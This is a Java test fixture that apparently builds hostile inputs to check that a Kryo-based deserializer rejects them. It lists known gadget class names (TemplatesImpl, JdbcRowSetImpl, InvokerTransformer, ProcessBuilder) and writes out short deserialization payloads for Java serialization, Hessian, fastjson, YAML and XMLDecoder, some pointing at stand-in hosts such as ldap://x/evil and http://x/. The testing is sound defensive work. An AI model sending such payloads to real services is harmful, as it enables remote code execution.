package io.linnet.demo.hostile;

import static io.linnet.demo.hostile.HostileValue.zeros;

import com.esotericsoftware.kryo.kryo5.io.Output;
import io.linnet.testing.wire.WireBytes;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;

/**
 * Rows T1 to T14 and T23: streams of other serializers, which name classes. Here a class can't be
 * named: the bytes are data, and wrong.
 */
final class StockTokens {

  /** Where an object may be, alone or inside something. */
  static final List<String> POSITIONS =
      List.of(
          "bean",
          "point",
          "checked",
          "shape",
          "figure",
          "permitted",
          "node",
          "maybe",
          "beans",
          "shapes",
          "beanArray",
          "beanMap",
          "pairMap",
          "pairs");

  private static final int NAMES_OF_ONE_LENGTH = 16;

  private StockTokens() {}

  /** Stock Kryo's token of a class it does not know by number, at every position for objects. */
  static Stream<HostileValue> named(Row row, String className) {
    WireBytes token = token(className);
    WireBytes one = WireBytes.hex("01");
    return POSITIONS.stream()
        .map(
            method ->
                HostileValue.of(
                    row,
                    className,
                    method,
                    token,
                    WireBytes.join(token, one, zeros(64)),
                    WireBytes.join(one, token, one, zeros(64))));
  }

  /** What Kryo's {@code DefaultClassResolver} writes: "by name", the first name, the name. */
  static WireBytes token(String className) {
    Output out = new Output(64, -1);
    out.writeVarInt(1, true);
    out.writeVarInt(0, true);
    out.writeString(className);
    return WireBytes.of(out.toBytes());
  }

  /** Rows T1 to T12. */
  static List<HostileValue> gadgets() {
    return Stream.of(
            named(Row.T1, "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"),
            named(Row.T2, "com.sun.rowset.JdbcRowSetImpl"),
            named(Row.T3, "javax.management.BadAttributeValueExpException"),
            named(Row.T4, "java.beans.XMLDecoder"),
            named(Row.T5, "javax.script.ScriptEngineManager"),
            named(Row.T6, "java.lang.ProcessBuilder"),
            named(Row.T7, "java.net.URL"),
            named(Row.T8, "java.rmi.server.UnicastRemoteObject"),
            named(Row.T9, "org.apache.commons.collections.functors.InvokerTransformer"),
            named(Row.T10, "com.rometools.rome.feed.impl.EqualsBean"),
            named(Row.T11, "sun.print.UnixPrintService"),
            named(Row.T12, "javax.sound.sampled.AudioFileFormat"),
            named(Row.T12, "io.linnet.demo.hostile.Trap"),
            named(Row.T12, "io.linnet.demo.hostile.Gadget"))
        .flatMap(each -> each)
        .toList();
  }

  /** Row T13: four names of the same length; who answers differently tells what there is. */
  static List<WireBytes> oracles() {
    String there = "java.lang.String";
    String notThere = "java.lang.Strinh";
    String otherCase = there.toUpperCase(Locale.ROOT);
    String array = "[".repeat(NAMES_OF_ONE_LENGTH - 5) + "Lx.y;";
    return Stream.of(there, notThere, otherCase, array).map(StockTokens::token).toList();
  }

  /** Row T13: more dimensions than an array may have. */
  static Stream<HostileValue> dimensions() {
    return named(Row.T13, "[".repeat(255) + "Ljava.lang.String;");
  }

  /** Row T14. */
  static Stream<HostileValue> otherSerializers() {
    return Stream.of(
        everywhere(
            "Java's own",
            WireBytes.join(
                WireBytes.hex("AC ED 00 05 73 72 00 11"),
                WireBytes.utf8("java.util.HashMap"),
                WireBytes.hex("05 07 DA C1 C3 16 60 D1 03 00 02 46 00 0A"),
                WireBytes.utf8("loadFactorI\0\tthresholdxp?@"),
                zeros(16))),
        everywhere(
            "Hessian 2",
            WireBytes.join(
                WireBytes.hex("48 02 00 43 30 1D"),
                WireBytes.utf8("com.sun.rowset.JdbcRowSetImpl\u0091\016dataSourceName`\r"),
                WireBytes.utf8("ldap://x/evil"))),
        everywhere(
            "fastjson",
            WireBytes.utf8(
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/e\"}")),
        everywhere(
            "YAML",
            WireBytes.utf8(
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                    + " [\"http://x/\"]]]]")),
        everywhere(
            "XML",
            WireBytes.utf8(
                "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object"
                    + " class=\"java.lang.ProcessBuilder\"/></java>")));
  }

  private static HostileValue everywhere(String what, WireBytes bytes) {
    return HostileValue.of(Row.T14, what, "bean", bytes);
  }

  /** Row T23: what Kryo's own serializers write for things that are code. */
  static Stream<HostileValue> code() {
    return Stream.of(
            "java.util.Collections$ReverseComparator",
            "java.lang.invoke.SerializedLambda",
            "com.esotericsoftware.kryo.kryo5.serializers.ClosureSerializer$Closure",
            "java.lang.reflect.Proxy",
            "java.lang.Class",
            "java.lang.Throwable")
        .flatMap(name -> named(Row.T23, name));
  }
}
